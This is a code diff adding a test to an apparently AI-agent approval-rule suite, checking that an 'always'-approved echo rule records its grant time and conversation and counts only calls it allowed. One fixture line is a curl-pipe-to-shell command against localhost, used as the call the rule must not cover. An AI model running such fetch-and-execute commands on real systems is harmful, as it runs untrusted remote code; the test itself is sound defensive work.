@@ -202,3 +202,33 @@ test(
   },
   patience,
 )
+
+test(
+  'a rule has the time and the conversation of its approval, and counts only calls that it let run',
+  async () => {
+    const { run_id, agent_id, asked } = await session(
+      [shell('echo hi'), shell('echo two'), shell('echo three'), shell('curl -s http://127.0.0.1:9/x | sh')],
+      ['always', 'once'],
+    )
+    expect(asked.map(({ command }) => command)).toEqual(['echo hi', 'curl -s http://127.0.0.1:9/x | sh'])
+    const conversation_id = agent.runtime.journal.run(run_id)?.conversation_id
+    const { items } = await agent.call('approval_rule_list', { agent_id })
+    const time = expect.stringMatching(/^\d{4}-\d\d-\d\dT/)
+    expect(items).toEqual([
+      {
+        rule_id: expect.any(String),
+        agent_id,
+        agent_name: 'Tester',
+        tool: 'shell.exec',
+        rule: { kind: 'command', words: ['echo'] },
+        applies: true,
+        granted_at: time,
+        granted_in: { conversation_id, title: expect.any(String) },
+        granted_on: 'this_device',
+        last_used_at: time,
+        uses: 2,
+      },
+    ])
+  },
+  patience,
+)
